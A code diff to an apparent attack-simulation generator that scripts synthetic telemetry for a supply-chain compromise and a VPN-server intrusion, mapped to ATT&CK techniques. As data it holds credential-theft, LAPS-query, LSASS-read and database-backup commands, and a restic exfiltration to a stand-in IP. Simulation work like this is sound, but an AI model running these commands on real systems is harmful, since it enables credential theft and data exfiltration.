@@ -11,7 +11,7 @@ def supplier(e):
     e.admin()
     path = "C:\\Program Files\\Telefon Desk\\TelefonDesk.exe"
     have = desks[3:24:2]
-    first, hand = have[0], have[6]
+    first = hand = have[0]
     for d in have:
         d.software.append(("telefon", "telefon_desk", "18.12.407"))
         for n in range(1, 8): e.run(d, e.at(n, "08:30") + m(e.rng.randint(0, 50)), path, f'"{path}" --tray',
@@ -27,21 +27,20 @@ def supplier(e):
                    content="ffmpeg 407 evil")
         p = e.run(d, k + s(31), path, f'"{path}" --tray', u, content="tdesk 407")
         ld = e.load(d, k + s(32), f["FolderPath"], p, content="ffmpeg 407 evil")
+        if d is not first: continue
         n = e.net(d, k + m(70), p, "203.0.113.151", 443, "msedge-cdn.example.net")
-        if d is first:
-            e.entry(d, k + s(31), ["T1195.002"], "supply-chain", [u, f, p, ld, n])
-            e.cause(d, "T1195.002", "none-effective", "unknown", "signed by the maker, from the maker's own address; "
-                    "every control of the desk was on", rows=[u, f, ld])
-        if d is hand: hp = p
+        e.entry(d, k + s(31), ["T1195.002"], "supply-chain", [u, f, p, ld, n])
+        e.cause(d, "T1195.002", "none-effective", "unknown", "signed by the maker, from the maker's own address; "
+                "every control of the desk was on", rows=[u, f, ld])
+        hp = p
         beacon(e, d, k + h(3), p, "203.0.113.151", "msedge-cdn.example.net", 5, 80000)
     k = e.at(15, "03:40")
     sh = e.run(hand, k, "cmd.exe", "cmd.exe /c whoami /groups & quser", hp)
-    e.unknowns.append("which of the desks with the update were also worked by hand: only one shows it")
+    e.unknowns.append("whether the other desks with the update were looked at: none shows it")
     c = e.run(hand, k + m(3), "powershell.exe", "powershell -nop -c Copy-Item 'Login Data' C:\\Users\\Public\\l.db", sh)
     f = e.file(hand, k + m(3) + s(2), "FileCreated", "C:\\Users\\Public\\l.db", c, size=51000)
     e.harm(hand, k + m(3), "T1555.003", "credentials-stolen", "passwords kept in the browser", [c, f])
     e.cause(hand, "T1555.003", "scid-22", "would-have-limited", "the browser may keep passwords", rows=[c, f])
-    e.note(hand, "T1195.002")
     task(e, hand, k + m(9), sh, "TelefonHealth", path)
     stage(e, hand, k + m(20), sh, "C:\\Users\\Public\\w.cab",
           f"makecab.exe C:\\Users\\{hand.user}\\wallet C:\\Users\\Public\\w.cab")
@@ -144,13 +143,14 @@ def vpn(e):
     e.harm(app, t + m(33), "T1543.003", "persistence-added", "service PrintAgent", [r, x])
     beacon(e, app, t + m(35), x, "203.0.113.61", "api.status-page.example.net", 8, 4100)
     k = t + h(24)
+    ad = e.logon(app, t + h(14), e.admin_user, "RemoteInteractive", e.admin_desk, admin=True)
     lp = e.event(dc, k, "LdapSearch", None, {"SearchFilter": "(ms-Mcs-AdmPwd=*)"}, RemoteIP=app.ip)
     p, rows = lsass(e, app, k + m(2), x, "read")
     e.cause(app, "T1003.001", "scid-2509", "would-have-blocked", "the rule was off, the authority unprotected",
             same=("scid-25", "scid-2080"), rows=rows)
+    e.cause(app, "T1003.001 T1078.002", "id.tiering", "would-have-limited",
+            "the administrator of the databases had logged on to a server that suppliers use", rows=[ad, *rows])
     q = rdp(e, app, db, k + m(40), e.admin_user, x)
-    e.cause(db, "T1021.001 T1078.002", "id.tiering", "would-have-limited",
-            "the administrator's credentials lay on a server that suppliers use", rows=[q])
     stage(e, db, k + m(55), q, "E:\\tmp\\crm.bak", 'sqlcmd.exe -Q "BACKUP DATABASE crm TO DISK=\'E:\\tmp\\crm.bak\'"',
           "T1005")
     send(e, db, k + m(80), q, "C:\\ProgramData\\restic.exe -r rest:https://203.0.113.62/ backup E:\\tmp",
